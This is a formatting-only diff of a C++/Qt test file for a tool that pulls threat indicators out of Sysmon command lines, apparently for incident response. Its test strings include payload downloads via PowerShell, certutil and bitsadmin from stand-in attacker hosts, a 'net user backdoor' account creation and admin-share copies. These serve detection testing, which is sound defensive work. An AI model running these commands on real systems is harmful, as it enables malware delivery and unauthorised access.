@@ -29,7 +29,8 @@ QString sampleFile(const char *name)
     return test::sourceDir() + QStringLiteral("/resources/samples/") + QString::fromLatin1(name);
 }
 
-const CaseIndicator *findIndicator(const std::vector<CaseIndicator> &all, const QString &type, const QString &value)
+const CaseIndicator *findIndicator(const std::vector<CaseIndicator> &all, const QString &type,
+                                   const QString &value)
 {
     for (const CaseIndicator &i : all)
         if (i.type == type && i.value == value)
@@ -41,27 +42,32 @@ QString describe(const std::vector<CaseIndicator> &all)
 {
     QStringList parts;
     for (const CaseIndicator &i : all)
-        parts << QStringLiteral("%1=%2 [%3] as %4%5").arg(i.type, i.value, i.contexts.join(QLatin1Char(',')), i.asWritten,
-                                                          i.internal ? QStringLiteral(" internal") : QString());
+        parts << QStringLiteral("%1=%2 [%3] as %4%5")
+                     .arg(i.type, i.value, i.contexts.join(QLatin1Char(',')), i.asWritten,
+                          i.internal ? QStringLiteral(" internal") : QString());
     return parts.join(QStringLiteral("; "));
 }
 
 // One Sysmon process-creation record on the sample host.
-QByteArray sysmonProcess(const QString &time, int pid, const QString &image, const QString &commandLine)
+QByteArray sysmonProcess(const QString &time, int pid, const QString &image,
+                         const QString &commandLine)
 {
-    QJsonObject o{{QStringLiteral("EventID"), 1},
-                  {QStringLiteral("Channel"), QStringLiteral("Microsoft-Windows-Sysmon/Operational")},
-                  {QStringLiteral("Hostname"), QStringLiteral("FIN-WS-042.corp.example")},
-                  {QStringLiteral("UtcTime"), QString(time + QStringLiteral(".000"))},
-                  {QStringLiteral("EventTime"), time},
-                  {QStringLiteral("ProcessGuid"), QStringLiteral("{7c1e2a10-9999-6a4f-0000-%1}").arg(pid, 12, 10, QLatin1Char('0'))},
-                  {QStringLiteral("ProcessId"), pid},
-                  {QStringLiteral("Image"), image},
-                  {QStringLiteral("CommandLine"), commandLine},
-                  {QStringLiteral("User"), QStringLiteral("CORP\\svc_backup")},
-                  {QStringLiteral("ParentProcessGuid"), QStringLiteral("{7c1e2a10-0001-6a4f-0b00-000000002500}")},
-                  {QStringLiteral("ParentProcessId"), 688},
-                  {QStringLiteral("ParentImage"), QStringLiteral("C:\\Windows\\System32\\services.exe")}};
+    QJsonObject o{
+        {QStringLiteral("EventID"), 1},
+        {QStringLiteral("Channel"), QStringLiteral("Microsoft-Windows-Sysmon/Operational")},
+        {QStringLiteral("Hostname"), QStringLiteral("FIN-WS-042.corp.example")},
+        {QStringLiteral("UtcTime"), QString(time + QStringLiteral(".000"))},
+        {QStringLiteral("EventTime"), time},
+        {QStringLiteral("ProcessGuid"),
+         QStringLiteral("{7c1e2a10-9999-6a4f-0000-%1}").arg(pid, 12, 10, QLatin1Char('0'))},
+        {QStringLiteral("ProcessId"), pid},
+        {QStringLiteral("Image"), image},
+        {QStringLiteral("CommandLine"), commandLine},
+        {QStringLiteral("User"), QStringLiteral("CORP\\svc_backup")},
+        {QStringLiteral("ParentProcessGuid"),
+         QStringLiteral("{7c1e2a10-0001-6a4f-0b00-000000002500}")},
+        {QStringLiteral("ParentProcessId"), 688},
+        {QStringLiteral("ParentImage"), QStringLiteral("C:\\Windows\\System32\\services.exe")}};
     return QJsonDocument(o).toJson(QJsonDocument::Compact) + '\n';
 }
 
@@ -121,7 +127,9 @@ void TestCmdlineIndicators::sampleC2BecomesCaseIndicator()
     QCOMPARE(c2->asWritten, QStringLiteral("0xB9DC652A"));
     QVERIFY(!c2->internal);
     // The download URL, with the address made canonical, came from the same line.
-    const CaseIndicator *url = findIndicator(inds.value(), QStringLiteral("url"), QStringLiteral("http://185.220.101.42:8080/update.ps1"));
+    const CaseIndicator *url =
+        findIndicator(inds.value(), QStringLiteral("url"),
+                      QStringLiteral("http://185.220.101.42:8080/update.ps1"));
     QVERIFY2(url, qPrintable(describe(inds.value())));
     QVERIFY(url->contexts.contains(QStringLiteral("cmdline")));
     QCOMPARE(url->asWritten, QStringLiteral("http://0xB9DC652A:8080/update.ps1"));
@@ -155,13 +163,26 @@ void TestCmdlineIndicators::lineIndicatorTypes_data()
     QTest::addColumn<QString>("value");
     QTest::addColumn<bool>("internal");
     QTest::addColumn<bool>("kept");
-    QTest::newRow("hex C2 in url") << QStringLiteral("powershell iwr http://0xB9DC652A:8080/a.ps1 -OutFile a.ps1") << "ipv4" << kC2 << false << true;
-    QTest::newRow("private share host kept, marked internal") << QStringLiteral("copy C:\\x.exe \\\\10.20.30.15\\c$\\x.exe") << "ipv4" << "10.20.30.15" << true << true;
-    QTest::newRow("defanged domain") << QStringLiteral("nslookup evil[.]example[.]ru") << "domain" << "evil.example.ru" << false << true;
-    QTest::newRow("sha256") << QStringLiteral("certutil -hashfile x SHA256 E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855") << "sha256" << "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855" << false << true;
+    QTest::newRow("hex C2 in url")
+        << QStringLiteral("powershell iwr http://0xB9DC652A:8080/a.ps1 -OutFile a.ps1") << "ipv4"
+        << kC2 << false << true;
+    QTest::newRow("private share host kept, marked internal")
+        << QStringLiteral("copy C:\\x.exe \\\\10.20.30.15\\c$\\x.exe") << "ipv4"
+        << "10.20.30.15" << true << true;
+    QTest::newRow("defanged domain") << QStringLiteral("nslookup evil[.]example[.]ru") << "domain"
+                                     << "evil.example.ru" << false << true;
+    QTest::newRow("sha256")
+        << QStringLiteral(
+               "certutil -hashfile x SHA256 E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855")
+        << "sha256"
+        << "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855" << false << true;
     // Users and paths are evidence of their own kind, not indicators to enrich or block here.
-    QTest::newRow("user not a case indicator") << QStringLiteral("net user backdoor P@ss /add") << "user" << "backdoor" << false << false;
-    QTest::newRow("unc path not a case indicator") << QStringLiteral("copy x.exe \\\\10.0.0.5\\c$\\x.exe") << "path" << "\\\\10.0.0.5\\c$\\x.exe" << true << false;
+    QTest::newRow("user not a case indicator")
+        << QStringLiteral("net user backdoor P@ss /add") << "user"
+        << "backdoor" << false << false;
+    QTest::newRow("unc path not a case indicator")
+        << QStringLiteral("copy x.exe \\\\10.0.0.5\\c$\\x.exe") << "path"
+        << "\\\\10.0.0.5\\c$\\x.exe" << true << false;
 }
 
 void TestCmdlineIndicators::lineIndicatorTypes()
@@ -171,7 +192,8 @@ void TestCmdlineIndicators::lineIndicatorTypes()
     QFETCH(QString, value);
     QFETCH(bool, internal);
     QFETCH(bool, kept);
-    const QList<IndicatorRecord> records = CommandLineIndicators::indicatorsOf(sharedCommandLineAnalyzer(), line);
+    const QList<IndicatorRecord> records =
+        CommandLineIndicators::indicatorsOf(sharedCommandLineAnalyzer(), line);
     const IndicatorRecord *hit = nullptr;
     for (const IndicatorRecord &r : records) {
         QCOMPARE(r.context, QStringLiteral("cmdline"));
@@ -193,24 +215,40 @@ void TestCmdlineIndicators::eventFileAfterIncident()
     const qint64 caseId = cases->front().id;
     // The incident's alerts are at 08:54 and 08:57 UTC on 2026-11-19.
     const QString path = writeEvents(
-        sysmonProcess(QStringLiteral("2026-11-19 09:10:00"), 4100, QStringLiteral("C:\\Windows\\System32\\certutil.exe"),
-                      QStringLiteral("certutil.exe -urlcache -split -f http://stage2-cdn.xyz/p.exe C:\\Users\\Public\\p.exe"))
-        + sysmonProcess(QStringLiteral("2026-11-19 09:11:00"), 4104, QStringLiteral("C:\\Program Files\\Contoso\\updater.exe"),
-                        QStringLiteral("\"C:\\Program Files\\Contoso\\updater.exe\" --check https://updates.contoso-example.com/feed"))
-        + sysmonProcess(QStringLiteral("2026-11-21 09:10:00"), 4108, QStringLiteral("C:\\Windows\\System32\\certutil.exe"),
-                        QStringLiteral("certutil.exe -urlcache -split -f http://much-later.xyz/p.exe C:\\Users\\Public\\p.exe")));
+        sysmonProcess(
+            QStringLiteral("2026-11-19 09:10:00"), 4100,
+            QStringLiteral("C:\\Windows\\System32\\certutil.exe"),
+            QStringLiteral(
+                "certutil.exe -urlcache -split -f http://stage2-cdn.xyz/p.exe C:\\Users\\Public\\p.exe")) +
+        sysmonProcess(
+            QStringLiteral("2026-11-19 09:11:00"), 4104,
+            QStringLiteral("C:\\Program Files\\Contoso\\updater.exe"),
+            QStringLiteral(
+                "\"C:\\Program Files\\Contoso\\updater.exe\" --check https://updates.contoso-example.com/feed")) +
+        sysmonProcess(
+            QStringLiteral("2026-11-21 09:10:00"), 4108,
+            QStringLiteral("C:\\Windows\\System32\\certutil.exe"),
+            QStringLiteral(
+                "certutil.exe -urlcache -split -f http://much-later.xyz/p.exe C:\\Users\\Public\\p.exe")));
     auto counts = importer.importFile(path);
     QVERIFY2(counts, qPrintable(counts ? QString() : counts.error().toString()));
     QCOMPARE(counts->events, qint64(3));
     auto inds = ts.store().indicatorsOfCase(caseId);
     QVERIFY(inds);
-    const CaseIndicator *url = findIndicator(inds.value(), QStringLiteral("url"), QStringLiteral("http://stage2-cdn.xyz/p.exe"));
-    QVERIFY2(url && url->contexts.contains(QStringLiteral("cmdline")), qPrintable(describe(inds.value())));
-    QVERIFY2(findIndicator(inds.value(), QStringLiteral("domain"), QStringLiteral("stage2-cdn.xyz")), qPrintable(describe(inds.value())));
-    // An ordinary updater's URL is not made a case indicator; neither is a line two days later.
-    QVERIFY2(!findIndicator(inds.value(), QStringLiteral("domain"), QStringLiteral("updates.contoso-example.com")),
+    const CaseIndicator *url = findIndicator(inds.value(), QStringLiteral("url"),
+                                             QStringLiteral("http://stage2-cdn.xyz/p.exe"));
+    QVERIFY2(url && url->contexts.contains(QStringLiteral("cmdline")),
              qPrintable(describe(inds.value())));
-    QVERIFY2(!findIndicator(inds.value(), QStringLiteral("domain"), QStringLiteral("much-later.xyz")), qPrintable(describe(inds.value())));
+    QVERIFY2(
+        findIndicator(inds.value(), QStringLiteral("domain"), QStringLiteral("stage2-cdn.xyz")),
+        qPrintable(describe(inds.value())));
+    // An ordinary updater's URL is not made a case indicator; neither is a line two days later.
+    QVERIFY2(!findIndicator(inds.value(), QStringLiteral("domain"),
+                            QStringLiteral("updates.contoso-example.com")),
+             qPrintable(describe(inds.value())));
+    QVERIFY2(
+        !findIndicator(inds.value(), QStringLiteral("domain"), QStringLiteral("much-later.xyz")),
+        qPrintable(describe(inds.value())));
 }
 
 void TestCmdlineIndicators::eventFileBeforeIncident()
@@ -218,15 +256,18 @@ void TestCmdlineIndicators::eventFileBeforeIncident()
     test::TempStore ts;
     ImportDispatcher importer(ts.store());
     const QString path = writeEvents(sysmonProcess(
-        QStringLiteral("2026-11-19 08:40:00"), 4200, QStringLiteral("C:\\Windows\\System32\\bitsadmin.exe"),
-        QStringLiteral("bitsadmin /transfer j /download /priority high http://drop.evil-cdn.top/s.exe C:\\Users\\Public\\s.exe")));
+        QStringLiteral("2026-11-19 08:40:00"), 4200,
+        QStringLiteral("C:\\Windows\\System32\\bitsadmin.exe"),
+        QStringLiteral(
+            "bitsadmin /transfer j /download /priority high http://drop.evil-cdn.top/s.exe C:\\Users\\Public\\s.exe")));
     QVERIFY(importer.importFile(path));
     QVERIFY(importer.importFile(sampleFile("fin-ws-042-incident.json")));
     auto cases = ts.store().cases();
     QVERIFY(cases && cases->size() == 1);
     auto inds = ts.store().indicatorsOfCase(cases->front().id);
     QVERIFY(inds);
-    QVERIFY2(findIndicator(inds.value(), QStringLiteral("url"), QStringLiteral("http://drop.evil-cdn.top/s.exe")),
+    QVERIFY2(findIndicator(inds.value(), QStringLiteral("url"),
+                           QStringLiteral("http://drop.evil-cdn.top/s.exe")),
              qPrintable(describe(inds.value())));
     QVERIFY(findIndicator(inds.value(), QStringLiteral("ipv4"), kC2));
 }
